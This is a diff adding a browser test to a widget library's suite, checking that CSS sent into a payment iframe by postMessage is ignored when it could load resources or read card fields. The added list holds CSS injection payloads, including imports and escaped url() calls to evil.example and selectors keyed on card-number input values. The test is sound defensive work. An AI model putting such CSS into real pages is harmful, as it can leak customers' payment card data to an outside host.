@@ -186,6 +186,24 @@ describe("the platform's widget library on the shop's page", () => {
           () => getComputedStyle(document.querySelector('.card') as Element).borderTopColor,
         ),
       ).toBe('rgb(0, 128, 0)');
+      // CSS that could load something or read the card fields is ignored as a whole.
+      const unsafe = [
+        '.card { border-top-color: rgb(255, 0, 0); } input[value^="4"] { color: red; }',
+        '@import "https://evil.example/x.css"; .card { border-top-color: rgb(255, 0, 0); }',
+        '.card { border-top-color: rgb(255, 0, 0); background: \\75 rl(https://evil.example/x); }',
+        '.card { border-top-color: rgb(255, 0, 0); background-image: image-set("x.png" 1x); }',
+        'form:has(input[name="card_number"]) .card { border-top-color: rgb(255, 0, 0); }',
+      ];
+      await page.evaluate((list) => {
+        const target = document.querySelector('iframe') as HTMLIFrameElement;
+        for (const css of list) target.contentWindow?.postMessage({ css }, '*');
+      }, unsafe);
+      await page.waitForTimeout(300);
+      expect(
+        await frame.evaluate(
+          () => getComputedStyle(document.querySelector('.card') as Element).borderTopColor,
+        ),
+      ).toBe('rgb(0, 128, 0)');
       const fit = await frame.evaluate(() => ({
         bottom: (document.querySelector('button[type="submit"]') as Element).getBoundingClientRect().bottom,
         height: window.innerHeight,
